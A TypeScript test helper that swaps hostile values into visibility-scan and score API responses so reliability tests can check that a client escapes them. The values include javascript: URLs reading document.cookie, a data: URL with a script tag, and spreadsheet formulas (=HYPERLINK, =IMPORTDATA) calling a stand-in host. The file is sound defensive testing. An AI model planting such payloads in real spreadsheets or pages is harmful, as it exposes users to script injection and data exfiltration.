/**
 * Hostile answers for the reliability tests: every text field a client might write into a cell
 * begins with = + - or @, and every link is javascript: or data:. The records stay schema-valid.
 */
type Body = Record<string, unknown>;

export function hostile(method: string, path: string, body: unknown): unknown {
  if (!body || typeof body !== 'object' || 'error' in body) return body;
  const b = { ...(body as Body) };
  if (path === '/api/visibility/scan-preview' && method === 'POST') {
    b.reportUrl = 'javascript:alert(document.cookie)';
    b.previewUrl = 'javascript:alert(document.cookie)';
  } else if (path === '/api/visibility/scan-preview') {
    if (b.status === 'complete') b.agentSiteUrl = '=HYPERLINK("https://evil.example","click")';
    if ('brandName' in b) b.brandName = '=1+1';
  } else if (path === '/api/visibility/scan') {
    if ('summary' in b) b.summary = '=IMPORTDATA("https://evil.example")';
    if ('message' in b) b.message = '-1 queries left';
    if ('reportUrl' in b) b.reportUrl = 'data:text/html,<script>alert(1)</script>';
  } else if (path === '/api/visibility/score') {
    b.brandName = '@admin';
    b.slug = '+slug';
    b.brandPageUrl = 'javascript:alert(1)';
  }
  return b;
}
